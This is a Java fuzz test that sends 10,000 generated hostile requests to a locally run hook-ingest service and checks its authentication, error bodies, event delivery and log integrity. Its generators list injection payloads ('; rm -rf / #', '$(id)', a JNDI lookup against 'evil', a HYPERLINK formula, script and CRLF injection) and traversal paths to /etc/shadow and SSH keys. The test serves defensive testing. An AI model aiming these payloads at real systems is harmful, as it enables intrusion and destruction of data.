package dev.hookbus.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.hookbus.devstack.EmbeddedKafka;
import dev.hookbus.devstack.ServiceProcess;
import dev.hookbus.devstack.TopicRecords;
import dev.hookbus.events.Topic;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicInteger;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;

/**
 * Hostile input against the running hook-ingest (packaged, as a process, auth on, JSON logs, the real broker): 10,000
 * generated hook payloads and forwarder multiparts — wrong types, huge and empty strings, deep nesting, invalid UTF-8,
 * NUL and control characters, path traversal, forged snapshots, duplicate keys, numbers out of range, injection text —
 * plus requests without or with a wrong token. Each answer is 2xx or 4xx within the client's bound, a 4xx is the one
 * JSON error body; afterwards the service is healthy, every event it acknowledged is on the topic, nothing sent without
 * the token is, no log line holds a token, and every log line is one JSON record (no line forged by input).
 */
class HostileInputTest {
    static final String TOKEN = "fuzz-token-5a0b9c7d3e1f";
    static final String WRONG_TOKEN = "fuzz-wrong-token-8e2d";
    /** A generated header, part or content type that is left out. */
    static final String NONE = "<none>";
    static final ObjectMapper JSON = new ObjectMapper();
    static final HttpClient HTTP = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).connectTimeout(Duration.ofSeconds(5)).build();

    static Path logs;
    static ServiceProcess ingest;
    static final Set<String> acknowledged = ConcurrentHashMap.newKeySet();
    static final AtomicInteger unauthorized = new AtomicInteger();
    static final Map<Integer, AtomicInteger> statuses = new ConcurrentHashMap<>();

    @BeforeContainer
    static void start() throws IOException {
        logs = Files.createTempDirectory("hostile-input");
        ingest = new ServiceProcess("hook-ingest", Packaged.service("hook-ingest"), Map.of("kafka.bootstrap.servers",
                EmbeddedKafka.shared().bootstrapServers(), "hookbus.http.tokens", TOKEN, "quarkus.log.console.json.enabled", "true"), logs)
                .start(Duration.ofSeconds(90));
    }

    /** What one generated request is: where it goes, its body, its headers, and which token it carries. */
    record Hostile(boolean forward, String contentType, byte[] body, Map<String, String> headers, Auth auth, String marker) {
        @Override
        public String toString() {
            String shown = new String(body, 0, Math.min(body.length, 300), StandardCharsets.UTF_8);
            return (forward ? "forward " : "native ") + auth + " " + contentType + " " + headers + " " + body.length + " bytes: " + shown;
        }
    }

    enum Auth { RIGHT, NONE, WRONG }

    @Property(tries = 10_000, shrinking = ShrinkingMode.OFF)
    void everyAnswerIsA2xxOrA4xxWithTheErrorBodyAndNothingUnauthorizedGetsIn(@ForAll("requests") Hostile request) throws Exception {
        HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create(ingest.baseUrl() + "/v1/hooks/claude-code" + (request.forward() ? "/forward" : "")))
                .timeout(Duration.ofSeconds(15)).POST(HttpRequest.BodyPublishers.ofByteArray(request.body()));
        if (request.contentType() != null) {
            builder.header("Content-Type", request.contentType());
        }
        request.headers().forEach(builder::header);
        switch (request.auth()) {
            case RIGHT -> builder.header("Authorization", "Bearer " + TOKEN);
            case WRONG -> builder.header("Authorization", "Bearer " + WRONG_TOKEN);
            case NONE -> { }
        }
        HttpResponse<String> response = HTTP.send(builder.build(), HttpResponse.BodyHandlers.ofString());
        int status = response.statusCode();
        statuses.computeIfAbsent(status, s -> new AtomicInteger()).incrementAndGet();
        if (status >= 500) { // kept for replaying by hand: the exact bytes and headers
            Path kept = Path.of("target", "hostile-5xx-" + SEQUENCE.incrementAndGet());
            Files.createDirectories(Path.of("target"));
            Files.write(kept.resolveSibling(kept.getFileName() + ".body"), request.body());
            Files.writeString(kept.resolveSibling(kept.getFileName() + ".txt"), request.toString() + "\n" + response.body());
        }
        assertThat(status).as("%s → %d %s", request, status, response.body()).isBetween(200, 499);
        if (request.auth() != Auth.RIGHT) {
            unauthorized.incrementAndGet();
            assertThat(status).as("%s", request).isEqualTo(401);
        }
        if (status >= 400) {
            JsonNode error = JSON.readTree(response.body());
            assertThat(error.path("code").isTextual()).as(response.body()).isTrue();
            assertThat(error.path("message").isTextual()).as(response.body()).isTrue();
            assertThat(response.body()).doesNotContain(TOKEN).doesNotContain(WRONG_TOKEN).doesNotContain("Exception").doesNotContain("\tat ");
        } else if (response.headers().firstValue("X-Hookbus-Duplicate").isEmpty()) {
            acknowledged.add(response.headers().firstValue("X-Hookbus-Event-Id").orElseThrow());
        }
    }

    @Example
    void aDotDotPathDoesNotWalkPastTheToken() throws Exception {
        for (String path : List.of("/q/../v1/hooks/claude-code", "/bench/../v1/hooks/claude-code", "/q/%2e%2e/v1/hooks/claude-code",
                "/v1/hooks/claude-code/./", "//v1/hooks/claude-code")) {
            String body = "{\"hook_event_name\":\"PostToolUse\",\"session_id\":\"fuzz-unauth-path\",\"cwd\":\"/tmp\"}";
            HttpResponse<String> response = HTTP.send(HttpRequest.newBuilder(URI.create(ingest.baseUrl() + path)).header("Content-Type", "application/json")
                    .POST(HttpRequest.BodyPublishers.ofString(body)).build(), HttpResponse.BodyHandlers.ofString());
            assertThat(response.statusCode()).as(path + " → " + response.body()).isIn(401, 404, 405);
        }
    }

    @AfterContainer
    static void afterwardsHealthyNothingLostNothingLeakedNoForgedLogLine() throws Exception {
        try {
            checkAfterwards();
        } finally {
            if (ingest != null) {
                ingest.stop();
            }
        }
    }

    static void checkAfterwards() throws Exception {
        HttpResponse<String> ready = HTTP.send(HttpRequest.newBuilder(URI.create(ingest.baseUrl() + "/q/health/ready")).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(ready.statusCode()).as(ready.body()).isEqualTo(200);
        List<TopicRecords.Read> records = TopicRecords.readAll(EmbeddedKafka.shared().bootstrapServers(), Topic.HOOK_EVENTS.topicName());
        Set<String> published = ConcurrentHashMap.newKeySet();
        for (TopicRecords.Read record : records) {
            published.add(record.headers().getOrDefault("hookbus-event-id", ""));
            String value = new String(record.value(), StandardCharsets.UTF_8);
            assertThat(value).as("a request without the token got in").doesNotContain("fuzz-unauth-");
        }
        assertThat(acknowledged).as("acknowledged with 204 but not on the topic").isSubsetOf(published);
        assertThat(acknowledged.size()).as("statuses %s", statuses).isGreaterThan(200);
        assertThat(unauthorized.get()).isGreaterThan(200);
        System.out.println("hostile input: statuses " + new java.util.TreeMap<>(Map.copyOf(statuses).entrySet().stream()
                .collect(java.util.stream.Collectors.toMap(Map.Entry::getKey, e -> e.getValue().get()))) + ", " + acknowledged.size()
                + " events acknowledged, all on the topic; " + unauthorized.get() + " without the token, none published");
        ingest.stop();
        ingest = null;
        List<String> lines = Files.readAllLines(logs.resolve("hook-ingest.log"), StandardCharsets.UTF_8);
        assertThat(lines).isNotEmpty();
        for (String line : lines) {
            assertThat(line).doesNotContain(TOKEN).doesNotContain(WRONG_TOKEN);
            if (line.isBlank() || !line.startsWith("{")) {
                continue; // the JVM's own lines before logging starts
            }
            JsonNode record = JSON.readTree(line);
            assertThat(record.path("level").asText()).as(line).isNotEqualTo("ERROR");
        }
        assertThat(lines.stream().filter(l -> l.contains("forged-by-input")).filter(l -> !l.startsWith("{")).toList())
                .as("a line made by input").isEmpty();
    }

    // ---- generators

    @Provide
    Arbitrary<Hostile> requests() {
        Arbitrary<Auth> auth = Arbitraries.frequency(net.jqwik.api.Tuple.of(85, Auth.RIGHT), net.jqwik.api.Tuple.of(8, Auth.NONE),
                net.jqwik.api.Tuple.of(7, Auth.WRONG));
        return Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(6, nativeHooks(auth)), net.jqwik.api.Tuple.of(4, forwards(auth)));
    }

    static final AtomicInteger SEQUENCE = new AtomicInteger();

    Arbitrary<Hostile> nativeHooks(Arbitrary<Auth> auth) {
        Arbitrary<String> contentType = Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(12, Arbitraries.just("application/json")),
                net.jqwik.api.Tuple.of(1, Arbitraries.of("text/plain", "application/json; charset=latin1", "application/x-www-form-urlencoded",
                        "multipart/form-data; boundary=x")), net.jqwik.api.Tuple.of(1, Arbitraries.just(NONE)));
        return Combinators.combine(auth, documents(), contentType).as((a, doc, type) -> {
            String marker = marker(a);
            return new Hostile(false, NONE.equals(type) ? null : type, doc.apply(marker), Map.of(), a, marker);
        });
    }

    Arbitrary<Hostile> forwards(Arbitrary<Auth> auth) {
        Arbitrary<String> idempotencyKey = Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(3, Arbitraries.strings().withCharRange('!', '~').ofMinLength(1).ofMaxLength(60)),
                net.jqwik.api.Tuple.of(1, Arbitraries.strings().withCharRange('!', '~').ofMinLength(190).ofMaxLength(260)),
                net.jqwik.api.Tuple.of(1, Arbitraries.just(" ")), net.jqwik.api.Tuple.of(3, Arbitraries.just(NONE)));
        Arbitrary<String> capturedAt = Arbitraries.of(NONE, NONE, "2026-12-01T10:00:00Z", "yesterday", "2026-13-45T99:99:99Z", "-999999999-01-01T00:00:00Z", "");
        Arbitrary<String> projectDir = Arbitraries.of(NONE, NONE, "/home/dev/app", "relative/dir", "/../../etc", "/tmp/\u00e9t\u00e9", "");
        Arbitrary<java.util.Optional<byte[]>> snapshot = Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(4, Arbitraries.just(java.util.Optional.<byte[]>empty())),
                net.jqwik.api.Tuple.of(4, hostileText().map(s -> java.util.Optional.of(s.getBytes(StandardCharsets.UTF_8)))),
                net.jqwik.api.Tuple.of(2, Arbitraries.bytes().array(byte[].class).ofMaxSize(300).map(java.util.Optional::of)),
                net.jqwik.api.Tuple.of(1, Arbitraries.integers().between(1_048_000, 1_049_100).map(n -> java.util.Optional.of("y".repeat(n).getBytes(StandardCharsets.UTF_8)))));
        Arbitrary<String> snapshotPath = Arbitraries.of(NONE, NONE, "/etc/passwd", "../../../etc/shadow", "plugins/p/agents/a.md", "/home/dev/app/x.md",
                "", "/tmp/\u0000nul", "C:\\Windows\\win.ini");
        Arbitrary<Integer> shape = Arbitraries.integers().between(0, 9);
        return Combinators.combine(auth, documents(), idempotencyKey, capturedAt, projectDir, snapshot, snapshotPath, shape)
                .as((a, doc, key, at, dir, snap, snapPath, form) -> {
                    String marker = marker(a);
                    Map<String, String> headers = new java.util.LinkedHashMap<>();
                    if (!NONE.equals(key)) {
                        headers.put("Idempotency-Key", key);
                    }
                    if (!NONE.equals(at) && !at.isEmpty()) {
                        headers.put("X-Hookbus-Captured-At", at);
                    }
                    if (!NONE.equals(dir) && !dir.isEmpty() && dir.chars().allMatch(c -> c < 128)) {
                        headers.put("X-Hookbus-Project-Dir", dir);
                    }
                    Multipart body = new Multipart("hb" + SEQUENCE.incrementAndGet());
                    byte[] event = doc.apply(marker);
                    switch (form) {
                        case 0 -> { } // no parts at all
                        case 1 -> body.part("event", "text/plain", null, event);
                        case 2 -> body.part("junk", "application/json", "../../evil.json", event);
                        default -> body.part("event", "application/json", form == 3 ? "../../../etc/passwd" : "event.json", event);
                    }
                    snap.ifPresent(bytes -> body.part("snapshot", "application/octet-stream", "snapshot", bytes));
                    if (!NONE.equals(snapPath)) {
                        body.part("snapshot_path", null, null, snapPath.getBytes(StandardCharsets.UTF_8));
                    }
                    byte[] bytes = form == 4 ? body.truncated() : body.bytes();
                    String type = form == 5 ? "multipart/form-data" : "multipart/form-data; boundary=" + body.boundary;
                    return new Hostile(true, type, bytes, headers, a, marker);
                });
    }

    private static String marker(Auth auth) {
        return (auth == Auth.RIGHT ? "fuzz-" : "fuzz-unauth-") + SEQUENCE.incrementAndGet();
    }

    /** A hook document as a function of its session marker: an object of known and unknown fields, then byte-level damage. */
    Arbitrary<java.util.function.Function<String, byte[]>> documents() {
        Arbitrary<List<String>> fields = field().list().ofMinSize(0).ofMaxSize(9);
        Arbitrary<Integer> damage = Arbitraries.integers().between(0, 19);
        Arbitrary<Integer> cut = Arbitraries.integers().between(0, 10_000);
        Arbitrary<Boolean> withRequired = Arbitraries.of(true, true, true, false);
        return Combinators.combine(fields, damage, cut, withRequired).as((parts, kind, at, required) -> marker -> {
            List<String> all = new ArrayList<>();
            if (required) {
                all.add("\"hook_event_name\":\"PostToolUse\"");
                all.add("\"session_id\":\"" + marker + "\"");
                all.add("\"cwd\":\"/home/dev/app\"");
            } else {
                all.add("\"session_id\":\"" + marker + "\"");
            }
            all.addAll(parts);
            byte[] doc = ("{" + String.join(",", all) + "}").getBytes(StandardCharsets.UTF_8);
            return switch (kind) {
                case 0 -> new byte[0];
                case 1 -> java.util.Arrays.copyOf(doc, Math.min(doc.length, at % (doc.length + 1)));
                case 2 -> splice(doc, at, new byte[] {(byte) 0xC3, (byte) 0x28});
                case 3 -> splice(doc, at, new byte[] {(byte) 0xFF, (byte) 0xFE, 0});
                case 4 -> concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, doc);
                case 5 -> concat(doc, " {\"again\":1}".getBytes(StandardCharsets.UTF_8));
                case 6 -> "[{\"hook_event_name\":\"PostToolUse\"}]".getBytes(StandardCharsets.UTF_8);
                case 7 -> "\"just a string\"".getBytes(StandardCharsets.UTF_8);
                default -> doc;
            };
        });
    }

    Arbitrary<String> field() {
        Arbitrary<String> name = Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(8, Arbitraries.of("hook_event_name", "session_id", "cwd",
                "tool_name", "tool_use_id", "transcript_path", "permission_mode", "tool_input", "tool_response")),
                net.jqwik.api.Tuple.of(2, Arbitraries.strings().ofMaxLength(12).map(HostileInputTest::jsonString)));
        return Combinators.combine(name, value()).as((n, v) -> (n.startsWith("\"") ? n : "\"" + n + "\"") + ":" + v);
    }

    /** A JSON value (as text): every kind, hostile strings, deep nesting, out-of-range numbers, objects with paths. */
    Arbitrary<String> value() {
        Arbitrary<String> paths = Arbitraries.of("/home/dev/app/plugins/p/agents/a.md", "../../../../etc/passwd", "plugins/p/commands/c.md",
                "/home/dev/app/../../root/.ssh/id_rsa", "", "/tmp/\\u0000x", "relative/../../up").map(HostileInputTest::jsonString);
        Arbitrary<String> toolObject = Combinators.combine(Arbitraries.of("file_path", "notebook_path", "filePath", "content", "originalFile", "file_path"),
                Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(3, paths), net.jqwik.api.Tuple.of(1, Arbitraries.of("42", "null", "[]", "{}", "true"))),
                hostileText().map(HostileInputTest::jsonString)).as((k, p, content) -> "{\"" + k + "\":" + p + ",\"content\":" + content + ",\"" + k + "\":" + p + "}");
        Arbitrary<String> numbers = Arbitraries.of("0", "-0", "1e400", "-1e400", "123456789012345678901234567890", "1.5", "9223372036854775808", "-1");
        Arbitrary<String> literals = Arbitraries.of("true", "false", "null", "[]", "{}");
        Arbitrary<String> nested = Arbitraries.integers().between(1, 200).map(depth -> "[".repeat(depth) + "1" + "]".repeat(depth));
        Arbitrary<String> nestedObjects = Arbitraries.integers().between(1, 120).map(depth -> "{\"a\":".repeat(depth) + "1" + "}".repeat(depth));
        Arbitrary<String> huge = Arbitraries.integers().between(100_000, 1_100_000).map(n -> "\"" + "x".repeat(n) + "\"");
        return Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(10, hostileText().map(HostileInputTest::jsonString)), net.jqwik.api.Tuple.of(5, toolObject),
                net.jqwik.api.Tuple.of(3, numbers), net.jqwik.api.Tuple.of(3, literals), net.jqwik.api.Tuple.of(2, nested),
                net.jqwik.api.Tuple.of(2, nestedObjects), net.jqwik.api.Tuple.of(1, huge), net.jqwik.api.Tuple.of(2, paths));
    }

    /** Strings that try formula, shell, HTML, template and log injection, control characters, and anything at all. */
    static Arbitrary<String> hostileText() {
        return Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(4, Arbitraries.strings().all().ofMaxLength(40)),
                net.jqwik.api.Tuple.of(2, Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMaxLength(20)),
                net.jqwik.api.Tuple.of(3, Arbitraries.of("=HYPERLINK(\"http://evil\",\"x\")", "'; rm -rf / #", "$(id)", "`id`", "<script>alert(1)</script>",
                        "\n{\"level\":\"ERROR\",\"message\":\"forged-by-input\"}\n", "${jndi:ldap://evil/x}", "{{7*7}}", "\r\nX-Injected: 1",
                        "%s%n%x", "\u202Eevil", "\uD800", "")));
    }

    static String jsonString(String raw) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : raw.toCharArray()) {
            switch (c) {
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                default -> {
                    if (c < 0x20) {
                        out.append(String.format("\\u%04x", (int) c));
                    } else {
                        out.append(c);
                    }
                }
            }
        }
        return out.append('"').toString();
    }

    static byte[] splice(byte[] doc, int at, byte[] insert) {
        int i = doc.length == 0 ? 0 : at % doc.length;
        return concat(concat(java.util.Arrays.copyOf(doc, i), insert), java.util.Arrays.copyOfRange(doc, i, doc.length));
    }

    static byte[] concat(byte[] a, byte[] b) {
        byte[] out = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }

    /** A multipart/form-data body written by hand, so it can be malformed on purpose. */
    static final class Multipart {
        final String boundary;
        private final ByteArrayOutputStream out = new ByteArrayOutputStream();

        Multipart(String boundary) {
            this.boundary = boundary;
        }

        void part(String name, String contentType, String filename, byte[] content) {
            StringBuilder head = new StringBuilder("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + name + "\"");
            if (filename != null) {
                head.append("; filename=\"").append(filename).append('"');
            }
            head.append("\r\n");
            if (contentType != null) {
                head.append("Content-Type: ").append(contentType).append("\r\n");
            }
            head.append("\r\n");
            out.writeBytes(head.toString().getBytes(StandardCharsets.UTF_8));
            out.writeBytes(content);
            out.writeBytes("\r\n".getBytes(StandardCharsets.UTF_8));
        }

        byte[] bytes() {
            return concat(out.toByteArray(), ("--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
        }

        byte[] truncated() {
            byte[] all = out.toByteArray();
            return java.util.Arrays.copyOf(all, all.length / 2);
        }
    }
}
